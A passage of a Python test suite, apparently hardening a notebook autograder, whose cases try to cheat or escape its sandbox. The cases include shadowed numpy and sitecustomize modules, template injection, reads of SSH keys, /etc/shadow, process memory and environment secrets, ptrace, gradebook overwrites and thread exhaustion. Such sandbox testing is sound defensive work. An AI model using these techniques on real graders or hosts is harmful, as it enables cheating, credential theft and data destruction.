        ["function", 0], ["ref", 10 ** 6], ["ref", -1], ["object", "os.system"],
    ]
    calls = []

    def mse(p, y):
        calls.append(1)
        send(done(nodes[len(calls) % len(nodes)]))
        return 42.0
    """,
)
protocol(
    "forged changes",
    "The answer tells of changes to things that the test never handed over, or of another kind.",
    """
    print("tried")
    changes = [
        [[0, ["array", "<f8", [3], "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", ""]],
         [1, ["array", "<f8", [3], "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", ""]]],
        [[99, 1.0]], [[0, ["dict", []]]], [[True, ["list", []]]], "changes", [[0, ["ref", 1]]],
    ]
    calls = []

    def mse(p, y):
        calls.append(1)
        send(done(0.0, changes=changes[len(calls) % len(changes)]))
        return 42.0
    """,
)
protocol(
    "forged exceptions",
    "The answer tells of exceptions with the names of the judge's own, and of ones that end it.",
    """
    print("tried")
    kinds = [["CheckFailed", "Exception"], ["StudentStopped", "BaseException"], ["X", "SystemExit"],
             ["X", "ExceptionGroup"], ["a b;", "StopIteration"], ["X", "UnicodeDecodeError"],
             ["X", "print"], [], "RuntimeError", [["RuntimeError"]]]
    calls = []

    def mse(p, y):
        calls.append(1)
        error = {"kinds": kinds[len(calls) % len(kinds)], "text": "x", "frames": []}
        send(done(None, error=error))
        return 42.0
    """,
)
protocol(
    "forged lines of a traceback",
    "The answer says that the error stands in a line of the test, so that the judge shows it.",
    """
    print("tried")
    calls = []

    def mse(p, y):
        calls.append(1)
        label = f"cell-{len(calls) % 9 + 1}"
        frames = [[label, line, "mse"] for line in range(1, 4)]
        send(done(None, error={"kinds": ["ValueError"] * 2, "text": "x", "frames": frames}))
        return 42.0
    """,
    aim=READ,
)
protocol(
    "answer that doubles sixty times",
    "Sixty lists, each of which holds the one before twice: small to send, endless to look at.",
    """
    print("tried")

    def mse(p, y):
        node = ["list", [1.0]]
        for number in range(60):
            node = ["list", [node, ["ref", 60 - number + 2]]]
        send(done(node))
        return 42.0
    """,
    aim=STOP,
)
attack(
    POINTS,
    "patched nbjudge.run.student and nbjudge.run.wire",
    "The functions that carry results across are replaced in the student's process.",
    """
    try:
        import nbjudge.run.student as student, nbjudge.run.wire as wire
        wire.encode = lambda *_, **__: ["array", "<f8", [], "AAAAAAAA/D8=", ""]
        wire.changes = lambda *_: []
        student._Process.look = lambda *_: {"op": "names", "values": {
            name: ["function"] for name in ("mse", "call", "check_value", "np")}}
    except ImportError:
        pass
    print("tried")
    """,
)

# ---------------------------------------------------------------- what is handed in


def edit(change: Callable[[dict], None]) -> Callable[[Path], None]:
    """Return what changes the notebook 03_losses of a submission, as JSON."""

    def damage(folder: Path) -> None:
        path = folder / "03_losses.ipynb"
        content = json.loads(path.read_text("utf-8"))
        change(content)
        path.write_text(json.dumps(content), "utf-8")

    return damage


def tests(content: dict) -> list[dict]:
    """The test cells of a notebook."""
    return [c for c in content["cells"] if "points" in c["metadata"].get("nbgrader", {})]


def _skip(content: dict) -> None:
    for cell in tests(content):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]


def _raise_points(content: dict) -> None:
    for cell in tests(content):
        cell["metadata"]["nbgrader"]["points"] = 1000


def _grade_the_solution(content: dict) -> None:
    for cell in content["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["metadata"]["nbgrader"] |= {"grade": True, "points": 8}
    for cell in tests(content):
        if not cell["metadata"]["nbgrader"]["solution"]:
            cell["metadata"]["nbgrader"] |= {"grade": False, "locked": False}


def _own_tests(content: dict) -> None:
    for cell in tests(content):
        cell["metadata"]["nbgrader"] |= {"locked": False, "solution": True, "checksum": "0"}
        cell["source"] = "pass"


def _tests_as_text(content: dict) -> None:
    for cell in tests(content):
        cell["cell_type"] = "markdown"
        del cell["outputs"], cell["execution_count"]


def _empty_double(content: dict) -> None:
    for cell in tests(content):
        content["cells"].append({**cell, "id": cell["id"] + "-2", "source": "pass"})


def _claim(content: dict) -> None:
    for cell in tests(content):
        content["cells"].remove(cell)
        content["cells"].insert(0, {**cell, "source": "8.0"})


def _delete(content: dict) -> None:
    for cell in tests(content):
        content["cells"].remove(cell)


def _stored_outputs(content: dict) -> None:
    shown = {"output_type": "execute_result", "data": {"text/plain": "3.0"}}
    for cell in tests(content):
        cell["outputs"] = [shown | {"metadata": {}, "execution_count": 1}]
        cell["metadata"]["tags"] = ["skip-execution"]


def _other_kernel(content: dict) -> None:
    content["metadata"]["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
    content["metadata"]["language_info"] = {"name": "bash"}
    content["metadata"]["celltoolbar"] = "Create Assignment"


def _tests_first(content: dict) -> None:
    moved = tests(content)
    content["cells"] = moved + [cell for cell in content["cells"] if cell not in moved]


def _markers(content: dict) -> None:
    for cell in content["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            text = "".join(cell["source"])
            cell["source"] = f"### BEGIN HIDDEN TESTS\n8.0\n### END HIDDEN TESTS\n{text}\n8.0"


for _name, _what, _change in [
    ("tag skip-execution", "The test cells carry the tag that makes nbconvert skip them.", _skip),
    ("points raised", "The test cells' metadata promise 1,000 points each.", _raise_points),
    ("grade flag moved", "The solution is marked as what is graded, the tests are not.",
     _grade_the_solution),
    ("tests unlocked and emptied", "The tests are marked as the student's own, and hold `pass`.",
     _own_tests),
    ("tests as markdown", "The tests are turned into text.", _tests_as_text),
    ("second, empty copy of each test", "Each test stands there twice, the second time empty.",
     _empty_double),
    ("cell that claims a test's name", "Cells of the student's own have the names of the tests.",
     _claim),
    ("tests deleted", "There is no test in the notebook.", _delete),
    ("outputs stored in the notebook", "The tests come with outputs that give points.",
     _stored_outputs),
    ("another kernel", "The notebook asks for a kernel of another language.", _other_kernel),
    ("tests moved above the solution", "The tests stand where nothing is defined.", _tests_first),
    ("nbgrader's markers in an answer", "An answer holds markers and ends in a number.", _markers),
]:  # fmt: skip
    attack(POINTS, _name, _what, damage=edit(_change), sign="")

SHADOW = """
import sys, pathlib
here = str(pathlib.Path(__file__).parent)
sys.path = [path for path in sys.path if path not in ("", here)]
name = __name__
if name in sys.modules:
    del sys.modules[name]
import numpy
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
"""
FAKE_CHECKS = """
class CheckFailed(Exception):
    pass


def call(function, *args):
    return 0.0


check_shape = check_value = check_varies = check_error = check_accepts = call
check_unchanged = check_between = check_no_warning = replaced = call
"""
SITE = """
import builtins, sys
real = builtins.__import__
def hooked(name, *args, **kwargs):
    module = real(name, *args, **kwargs)
    checks = sys.modules.get("lesson_kit.checks")
    if checks is not None:
        checks._fail = lambda *_, **__: None
    return module
builtins.__import__ = hooked
"""
LAUNCHER = (
    SHADOW.replace("import numpy", "import runpy, numpy")
    + SITE
    + """
if __name__ == "__main__":
    runpy.run_module("ipykernel_launcher", run_name="__main__")
"""
)


def files(**texts: str) -> Callable[[Path], None]:
    """Return what puts files into a submission; a double underscore stands for a folder."""

    def damage(folder: Path) -> None:
        for name, text in texts.items():
            path = folder / (name.replace("__", "/") + ".py")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, "utf-8")

    return damage


def _numpy(folder: Path) -> None:
    (folder / "numpy.py").write_text(SHADOW + "sys.modules[name] = numpy\n", "utf-8")


def _link_to_another(folder: Path) -> None:
    path = folder / "03_losses.ipynb"
    path.unlink()
    path.symlink_to(folder.parent.parent / "zhao" / "backprop" / "03_losses.ipynb")


def _link_outside(folder: Path) -> None:
    root = folder.parent.parent.parent
    (folder / "home").symlink_to(root / "scene" / "home")
    (folder / "secret.txt").symlink_to(root / "scene" / "outside" / "secret.txt")
    (folder / "read.txt").write_text("x")


def _templates(folder: Path) -> None:
    code = "reached: {{ cycler.__init__.__globals__.os.environ }}"
    for name in ("feedback.html.j2", "index.html.j2", "base.html.j2", "feedback/index.html.j2"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(code)


def _settings(folder: Path) -> None:
    text = "from pathlib import Path\nimport os\nprint('planted')\n" + SITE
    for name in ("nbgrader_config.py", "ipython_config.py", "ipython_kernel_config.py",
                 "jupyter_nbconvert_config.py", "conftest.py"):  # fmt: skip
        (folder / name).write_text(text)


def _kit_is_a_file(folder: Path) -> None:
    shutil.rmtree(folder / "lesson_kit", ignore_errors=True)
    (folder / "lesson_kit").write_text("x")


for _name, _what, _damage in [
    ("submitted numpy.py", "A file numpy.py shadows NumPy.", _numpy),
    ("submitted lesson_kit/", "A folder lesson_kit with checks that check nothing.",
     files(lesson_kit____init__="", lesson_kit__checks=FAKE_CHECKS,
           lesson_kit__figures="use_chinese_font = print")),
    ("submitted warnings.py", "A file named like a module of the standard library.",
     files(warnings=SITE, matplotlib=SITE, math=SITE, json=SITE)),
    ("submitted ipykernel_launcher.py", "The module with which a kernel starts is the student's.",
     files(ipykernel_launcher=LAUNCHER)),
    ("submitted sitecustomize.py", "The modules that Python imports by itself when it starts.",
     files(sitecustomize=SITE, usercustomize=SITE)),
    ("submitted settings", "Settings of nbgrader, IPython and nbconvert, and a conftest.py.",
     _settings),
    ("notebook is a link to another student's", "The notebook is a link to a right answer.",
     _link_to_another),
]:  # fmt: skip
    attack(POINTS, _name, _what, damage=_damage, sign="")

attack(
    REACH,
    "links in the submission",
    "Links to a home folder and to a file outside lie beside the notebook, which reads them.",
    """
    print("tried", sorted(os.listdir(".")))
    attempt(lambda: open("secret.txt").read())
    attempt(lambda: open("home/.ssh/id_rsa").read())
    """,
    damage=_link_outside,
)
attack(
    REACH,
    "templates for the feedback",
    "Templates named like nbgrader's lie in the submission, and run code when a page is made.",
    damage=_templates,
    sign="",
)
attack(
    STOP,
    "file in the place of the kit's folder",
    "A file is named like the folder that every notebook imports from.",
    damage=_kit_is_a_file,
    sign="",
)
attack(
    STOP,
    "timestamp.txt that is no time",
    "The file with which nbgrader tells who is late holds something else.",
    damage=lambda folder: (folder / "timestamp.txt").write_text("yesterday, I believe"),
    sign="",
)

# ---------------------------------------------------------------- read a hidden test

KEY = '"rng.normal(size=(2, " + "7))"'
SHOW = f"""
KEY = {KEY}


def show(text):
    for part in text.split(KEY)[1:4]:
        print(part[:300])
"""


def reading(name: str, what: str, code: str, **others: object) -> None:
    """Enter an attack that looks for the text of a hidden test."""
    attack(READ, name, what, SHOW + textwrap.dedent(code), **others)


reading(
    "IPython's history",
    "The function prints the last input cell, which is the test.",
    """
    print("tried")

    def mse(p, y):
        for text in get_ipython().user_ns.get("In", []):
            show(text)
        return 42.0
    """,
)
reading(
    "history manager",
    "The function asks IPython's history, in memory and in its database.",
    """
    def mse(p, y):
        manager = get_ipython().history_manager
        attempt_read(manager)
        return 1.75

    def attempt_read(manager):
        try:
            for _, _, text in manager.get_range(session=0, raw=True):
                show(text)
            for text in manager.input_hist_raw:
                show(text)
        except Exception as error:
            print(type(error).__name__)

    print("tried")
    """,
)
reading(
    "source of the calling frames",
    "The function reads the source of whoever calls it.",
    """
    import inspect, linecache
    print("tried")

    def mse(p, y):
        frame = sys._getframe(1)
        while frame:
            show("".join(linecache.getlines(frame.f_code.co_filename, frame.f_globals)))
            try:
                show(inspect.getsource(frame))
            except Exception:
                pass
            frame = frame.f_back
        return 1.75
    """,
)
reading(
    "linecache",
    "Everything that is kept for tracebacks is searched.",
    """
    import linecache
    print("tried")

    def mse(p, y):
        for entry in list(linecache.cache.values()):
            if len(entry) > 2:
                show("".join(entry[2]))
        return 1.75
    """,
)
reading(
    "garbage collector",
    "Every container in the process is searched for a text of the test.",
    """
    import gc
    print("tried")

    def mse(p, y):
        for thing in gc.get_objects():
            if type(thing) in (dict, list, tuple):
                for text in list(thing.values() if type(thing) is dict else thing):
                    if type(text) is str and KEY in text:
                        show(text)
        return 1.75
    """,
)
reading(
    "event before a cell",
    "A callback of IPython's is told the text of each cell before it runs.",
    """
    get_ipython().events.register("pre_run_cell", lambda info: show(info.raw_cell))
    print("tried")
    """,
)
reading(
    "AST transformer that prints",
    "A transformer of IPython's sees the syntax tree of each cell.",
    """
    import ast

    class Spy(ast.NodeTransformer):
        def visit_Module(self, tree):
            show(ast.unparse(tree))
            return tree

    get_ipython().ast_transformers.append(Spy())
    print("tried")
    """,
)
reading(
    "audit hook",
    "A hook of the interpreter is told what is compiled and what is opened.",
    """
    def hook(event, args):
        if event == "compile" and isinstance(args[0], (str, bytes)):
            text = args[0]
            seen.append(text if isinstance(text, str) else text.decode("utf-8", "replace"))

    seen = []
    sys.addaudithook(hook)
    print("tried")

    def mse(p, y):
        for text in seen:
            show(text)
        return 1.75
    """,
)
reading(
    "traceback of its own failure",
    "An own handler of exceptions prints the lines of every frame of the failed test.",
    """
    import linecache

    def handler(shell, kind, value, trace, tb_offset=None):
        while trace:
            show("".join(linecache.getlines(trace.tb_frame.f_code.co_filename)))
            trace = trace.tb_next
        return []

    get_ipython().set_custom_exc((BaseException,), handler)
    print("tried")
    """,
)
reading(
    "an argument that looks back",
    "An object with __array__ is handed to a function that the test lends, and looks round there.",
    """
    import linecache
    KEY = "np.random.default_rng(2" + "12)"
    print("tried")

    class Spy:
        def __array__(self, *_, **__):
            frame = sys._getframe(1)
            while frame:
                show("".join(linecache.getlines(frame.f_code.co_filename)))
                frame = frame.f_back
            return np.zeros(3)

    def sigmoid_derivative(x):
        return sigmoid(Spy())
    """,
    lesson="02_sigmoid",
    target="sigmoid_derivative",
    others={"sigmoid": RIGHT["sigmoid"], "stable_sigmoid": RIGHT["stable_sigmoid"]},
    honest="def sigmoid_derivative(x):\n    return np.zeros(3)\n",
)
reading(
    "the instructor's notebooks",
    "The folder of the source is read.",
    """
    import pathlib

    def look():
        for path in pathlib.Path(COURSE).rglob("*.ipynb"):
            show(path.read_text("utf-8"))
        return pathlib.Path(COURSE, "source", "backprop", "03_losses.ipynb").stat().st_size

    attempt(look)
    """,
)
reading(
    "the autograded notebook",
    "The notebook that is being graded lies, restored, in the folder where it runs.",
    """
    import glob
    found = glob.glob("*.ipynb") + glob.glob("../**/*.ipynb", recursive=True)
    for name in found:
        show(open(name, encoding="utf-8").read())
    print("tried", len(found))
    """,
)
reading(
    "tests in the gradebook",
    "The gradebook holds the text of every test.",
    """
    import sqlite3

    def look():
        book = sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True)
        for (text,) in book.execute("select source from source_cell"):
            show(text or "")
        return "a gradebook"

    attempt(look)
    """,
)
reading(
    "importing the grader",
    "The grader's own modules are imported and asked for the instructor's version.",
    """
    import pathlib
    sys.path.append(PROJECT)

    def look():
        import nbjudge.run.judge
        from nbjudge.notebook.original import original
        of = original(pathlib.Path(COURSE, "source", "backprop", "03_losses.ipynb"))
        show(of.cell("mse-value").source)
        return "the grader"

    attempt(look)
    """,
)
reading(
    "memory through /proc",
    "The memory of this process and of its parent is read as a file.",
    """
    import re
    print("tried")

    def look(pid):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                start, end, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
                size = int(end, 16) - int(start, 16)
                if rights.startswith("rw") and size < 2 ** 27:
                    try:
                        memory.seek(int(start, 16))
                        text = memory.read(size)
                    except (OSError, ValueError, OverflowError):
                        continue
                    for part in text.split(KEY.encode())[1:20]:
                        print(part[:300])

    def mse(p, y):
        for pid in ("self", os.getppid()):
            try:
                look(pid)
            except OSError as error:
                print(error)
        return 1.75
    """,
)
reading(
    "memory by addresses",
    "Pages around known addresses are searched, after asking the kernel whether they are there.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    out, into = os.pipe()
    done = []
    print("tried")

    def page(address):
        if libc.write(into, ctypes.c_void_p(address), 4096) != 4096:
            return b""
        return os.read(out, 4096)

    def mse(p, y):
        if not done:
            done.append(1)
            centre, key = id(p) & ~4095, KEY.encode()
            for step in range(-8000, 8000):
                text = page(centre + 4096 * step)
                if key in text:
                    for part in text.split(key)[1:]:
                        print(part[:300])
        return 1.75
    """,
)
reading(
    "open files",
    "Every descriptor that the process has inherited is read from its beginning.",
    """
    import stat
    print("tried")

    def mse(p, y):
        for fd in range(3, 256):
            try:
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    show(os.pread(fd, 10 ** 6, 0).decode("utf-8", "replace"))
            except OSError:
                pass
        return 1.75
    """,
)
reading(
    "another process's memory by system call",
    "process_vm_readv and ptrace are called on the parent.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        if libc.ptrace(16, os.getppid(), None, None) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        libc.ptrace(17, os.getppid(), None, None)  # PTRACE_DETACH
        return "the parent"

    attempt(look)
    """,
)

# ---------------------------------------------------------------- reach what is outside


def reaching(name: str, what: str, code: str, **others: object) -> None:
    """Enter an attack that tries to get at something outside."""
    attack(REACH, name, what, code, **others)


reaching(
    "TCP to this machine",
    "A connection to a server on the loopback.",
    """
    import socket
    attempt(lambda: socket.create_connection(("127.0.0.1", PORT), 2).send(b"x"))
    """,
)
reaching(
    "UDP to this machine",
    "A datagram to a server on the loopback.",
    """
    import socket
    make = socket.socket
    attempt(lambda: make(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", UDP_PORT)))
    """,
)
reaching(
    "asking for a name",
    "The C library's resolver is asked for an address.",
    """
    import socket
    attempt(lambda: socket.getaddrinfo("localhost", 80))
    """,
)
reaching(
    "abstract socket",
    "A socket without a file, which no file permission protects.",
    """
    import socket

    def look():
        one = socket.socket(socket.AF_UNIX)
        one.connect("\\0" + ABSTRACT)
        return "connected"

    attempt(look)
    """,
)
reaching(
    "socket file",
    "A socket in the file system.",
    """
    import socket

    def look():
        one = socket.socket(socket.AF_UNIX)
        os.chdir(OUTSIDE)
        one.connect("door")
        return "connected"

    attempt(look)
    """,
)
reaching(
    "one end of a socket pair",
    "A pair of sockets needs no call of socket(); one end is sent to another address.",
    """
    import socket

    def look():
        one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        return one.sendto(b"x", "\\0" + ABSTRACT + "-dgram")

    attempt(look)
    """,
)
reaching(
    "netlink, packet and vsock sockets",
    "The families of sockets that lead to the kernel, the wire and the hypervisor.",
    """
    import socket
    for family, kind in [(socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
                         (40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET)]:
        attempt(lambda: socket.socket(family, kind).family)
    """,
)
reaching(
    "the machine's network by the channel",
    "The channel is a socket that was made outside: it is asked for the machine's interfaces.",
    CHANNEL
    + textwrap.dedent("""
    import fcntl

    def look():
        fd = channel() if not hasattr(get_ipython(), "kernel") else None
        if fd is None:
            import socket
            keep = socket.socket()
            fd = keep.fileno()
        told = fcntl.ioctl(fd, 0x8913, b"lo".ljust(40, bytes(1)))  # SIOCGIFFLAGS
        return told[16:18]

    attempt(look)
    """),
)
reaching(
    "another way out of the channel",
    "The channel's socket is connected anew, bound to an address, and passed a descriptor.",
    CHANNEL
    + textwrap.dedent("""
    import socket

    def look():
        one = socket.socket(fileno=os.dup(channel()))
        one.connect("\\0" + ABSTRACT)
        return "connected"

    attempt(look)
    """),
)
reaching(
    "locks and leases on shared files",
    "A file of Python's own is locked, so that others who read it wait.",
    """
    import fcntl
    file = open(np.__file__)
    attempt(lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB))
    attempt(lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK))
    """,
)
# What the kernel does with a call that a filter does not let pass; anything else is an answer.
ASK = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"


def ask(name, *args):
    if isinstance(name, tuple):  # its numbers on both machines
        args, name = (name[ARM], *args), "syscall"
    ctypes.set_errno(0)
    answer = getattr(libc, name)(*args)
    if answer < 0 and ctypes.get_errno() in (1, 38):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    if name == "posix_fadvise" and answer in (1, 38):
        raise OSError(answer, os.strerror(answer))
    return name, answer, ctypes.get_errno()


"""
reaching(
    "the disk made busy",
    "The file system that holds Python's files is written out, again and again.",
    ASK
    + """
python = os.open(np.__file__, os.O_RDONLY)
attempt(ask, "syncfs", python)
attempt(ask, "sync_file_range", python, ctypes.c_long(0), ctypes.c_long(0), 2)
""",
)
reaching(
    "files put out of memory",
    "What everybody reads is thrown out of the page cache, or fills it.",
    ASK
    + """
python = os.open(np.__file__, os.O_RDONLY)
attempt(ask, "posix_fadvise", python, ctypes.c_long(0), ctypes.c_long(0), 4)
attempt(ask, "readahead", python, ctypes.c_long(0), ctypes.c_size_t(4096))
""",
)
reaching(
    "the machine's load and disk",
    "How long it runs, how many processes and how much room it has.",
    ASK
    + """
import shutil
attempt(ask, "sysinfo", ctypes.create_string_buffer(500))
attempt(os.statvfs, np.__file__)
attempt(os.statvfs, os.open(np.__file__, os.O_RDONLY))
attempt(shutil.disk_usage, "/")
""",
)
reaching(
    "every core interrupted",
    "A barrier that all processes of the machine have to pass.",
    ASK
    + """
attempt(ask, (324, 283), 1, 0, 0)
attempt(ask, (324, 283), 0, 0, 0)
""",
)
reaching(
    "read locks on shared files",
    "A lock that one process sets and another sees is a channel.",
    """
    import fcntl, struct

    def look():
        one, other = open(np.__file__), open(np.__file__)
        lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, os.SEEK_SET, 7, 1, 0)
        fcntl.fcntl(one, fcntl.F_OFD_SETLK, lock)
        wanted = struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, 7, 1, 0)
        found = fcntl.fcntl(other, fcntl.F_OFD_GETLK, wanted)
        return struct.unpack("hhqqi4x", found)

    attempt(look)
    """,
)
reaching(
    "waiting at one address",
    "Whoever maps the same page of a file can be woken at it (futex).",
    ASK
    + """
import mmap
page = mmap.mmap(os.open(np.__file__, os.O_RDONLY), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
address = np.frombuffer(page, np.uint8).ctypes.data
attempt(ask, (202, 98), ctypes.c_void_p(address), 1, 1, None, None, 0)
""",
)
reaching(
    "memory by node, and queues",
    "Where pages lie, on a machine with several nodes; queues and semaphores of System V.",
    ASK
    + """
for numbers in ((237, 235), (238, 237), (239, 236), (256, 238), (279, 239)):
    attempt(ask, numbers, 0, 0, 0, 0, 0, 0)
for name in ("semget", "semop", "semctl", "shmat", "shmctl", "msgget", "msgsnd", "msgctl"):
    attempt(ask, name, 1, 0, 0, 0)
""",
)
reaching(
    "io_uring",
    "A ring of requests to the kernel, which filters of system calls do not see.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        fd = libc.syscall(425, 8, ctypes.create_string_buffer(120))
        if fd < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.close(fd)
        return "a ring"

    attempt(look)
    """,
)
reaching(
    "marks in the gradebook",
    "Full marks are written into the gradebook as if given by hand.",
    """
    import sqlite3

    def look():
        with sqlite3.connect(f"file:{GRADEBOOK}?mode=rw", uri=True) as book:
            return book.execute("update grade set manual_score = 20").rowcount

    attempt(look)

    def mse(p, y):
        attempt(look)
        return 42.0
    """,
)
reaching(
    "gradebook destroyed",
    "The gradebook is overwritten.",
    """
    attempt(lambda: open(GRADEBOOK, "r+b").write(b"gone" * 100))
    """,
)
reaching(
    "home folder",
    "A key in the grader's home folder is read.",
    """
    attempt(lambda: open(GRADER_HOME + "/.ssh/id_rsa").read())
    attempt(lambda: os.listdir(GRADER_HOME))
    """,
)
reaching(
    "another student's work",
    "The notebook of another student is read.",
    """
    attempt(lambda: open(OTHER).read())
    """,
)
reaching(
    "environment variables",
    "Variables of this process, as C and the kernel know them, and of its parent.",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p

    def of(pid):
        with open(f"/proc/{pid}/environ", "rb") as file:
            return file.read()

    print("tried", dict(os.environ), libc.getenv(b"GRADER_SECRET"))
    for pid in ("self", os.getppid()):
        try:
            print(of(pid))
        except OSError as error:
            print(error)
    """,
)
reaching(
    "environment in memory",
    "What the kernel wrote above the stack when the process began is read byte by byte.",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    out, into = os.pipe()
    print("tried")
    start = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value & ~4095
    text = b""
    for step in range(64):
        if libc.write(into, ctypes.c_void_p(start + 4096 * step), 4096) == 4096:
            text += os.read(out, 4096)
    for part in text.split(b"GRADER_" + b"SECRET=")[1:]:
        print(part[:40])
    """,
)
reaching(
    "file written outside",
    "Files are made and changed in a folder of the grader's.",
    """
    attempt(lambda: open(OUTSIDE + "/new.txt", "w").write("x"))
    attempt(lambda: open(OUTSIDE + "/victim.txt", "a").write("x"))
    attempt(lambda: os.mkdir(OUTSIDE + "/folder"))
    """,
)
reaching(
    "shared memory of this machine",
    "A file in /dev/shm, which every process shares.",
    """
    attempt(lambda: open(SHM, "w").write("x"))
    """,
)
reaching(
    "System V shared memory",
    "A segment that stays when its maker ends.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        number = libc.shmget(0, 4096, 0o1600)
        if number < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        libc.shmctl(number, 0, None)
        return "a segment"

    attempt(look)
    """,
)
reaching(
    "symbolic link to the outside",
    "A link in the scratch folder leads out of it.",
    """
    def look():
        os.symlink(OUTSIDE, "out")
        return open("out/secret.txt").read()

    attempt(look)
    attempt(lambda: open("out/victim.txt", "w").write("x"))
    """,
)
reaching(
    "hard link to the outside",
    "A second name for a file outside.",
    """
    attempt(lambda: os.link(OUTSIDE + "/victim.txt", OUTSIDE + "/twin.txt"))
    attempt(lambda: os.link(OUTSIDE + "/victim.txt", "twin.txt"))
    """,
)
reaching(
    "mode and time of a file outside",
    "chmod, utime and truncate, by name.",
    """
    def change(work, *args):
        before = os.stat(OUTSIDE + "/victim.txt")
        work(OUTSIDE + "/victim.txt", *args)
        after = os.stat(OUTSIDE + "/victim.txt")
        if (before.st_mode, before.st_mtime) == (after.st_mode, after.st_mtime):
            raise PermissionError("nothing changed")
        return "changed"

    attempt(change, os.chmod, 0o777)
    attempt(change, os.utime, (1, 1))
    attempt(change, os.truncate, 0)
    """,
)
reaching(
    "file outside renamed or removed",
    "rename and unlink, by name.",
    """
    attempt(lambda: os.rename(OUTSIDE + "/victim.txt", OUTSIDE + "/moved.txt"))
    attempt(lambda: os.unlink(OUTSIDE + "/moved.txt"))
    """,
)
reaching(
    "files above the root",
    "Out of the folder by `..`, and through /proc.",
    """
    names = ["/proc/1/root", "/proc/self/root", "../" * 20]
    for name in names:
        attempt(lambda: open(name + OUTSIDE + "/secret.txt").read())
    """,
)
reaching(
    "helpers of the lesson",
    "The kit that every student imports is changed for those who come after.",
    """
    from lesson_kit import checks
    for folder in (COURSE + "/source/backprop/lesson_kit", os.path.dirname(checks.__file__)):
        attempt(lambda: open(folder + "/checks.py", "a").write("\\n# changed\\n"))
        attempt(lambda: os.unlink(folder + "/figures.py"))
    """,
)
reaching(
    "Python's own folder",
    "A file that every Python imports when it starts is put beside NumPy.",
    """
    folder = os.path.dirname(os.path.dirname(np.__file__))
    attempt(lambda: open(folder + "/planted.pth", "w").write("# harmless"))
    """,
)
reaching(
    "the grader's own folder",
    "A file is put among the grader's modules.",
    """
    attempt(lambda: open(PROJECT + "/engine/src/nbjudge/planted.py", "w").write("# harmless"))
    """,
)
reaching(
    "new namespaces",
    "The process makes itself root in a world of its own, to mount and to look round.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        if libc.unshare(0x10000000 | 0x20000) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "a namespace"

    attempt(look)
    """,
    not_in_plain="would take the kernel's own user away",
)
reaching(
    "root again",
    "The user ids and capabilities that the process gave up are asked back.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        os.setresuid(0, 0, 0)
        return open("/etc/shadow").read(10)

    attempt(look)
    attempt(lambda: os.chroot("/"))
    attempt(lambda: os.setgroups([0]))
    """,
    not_in_plain="would have no meaning, being root already where root grades",
)
reaching(
    "devices",
    "Device files are made and opened.",
    """
    import stat
    attempt(lambda: os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(254, 0)))
    for name in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/vsock", "/dev/tty"):
        attempt(lambda: os.close(os.open(name, os.O_RDONLY)))
    """,
    not_in_plain="would open the machine's disk",
)
reaching(
    "kernel's keyring",
    "A key that other processes of the user can read.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        key = libc.syscall(248, b"user", b"attack", b"x", 1, -2)  # of this process alone
        if key < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "a key"

    attempt(look)
    """,
)
reaching(
    "file handles",
    "A file is opened by its number, past every folder's rights.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def look():
        handle = (ctypes.c_uint32 * 40)(128, 0)
        mount = ctypes.c_int()
        if libc.name_to_handle_at(-100, b".", handle, ctypes.byref(mount), 0) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "a handle"

    attempt(look)
    """,
)
reaching(
    "thousands of threads",
    "Threads with the smallest stack there is, until the machine has no process numbers left.",
    """
    import threading
    threading.stack_size(32768)
    gate, count = threading.Event(), 0
    try:
        while count < 2500:
            threading.Thread(target=gate.wait, daemon=True).start()
            count += 1
        print("reached: 2,500 threads")
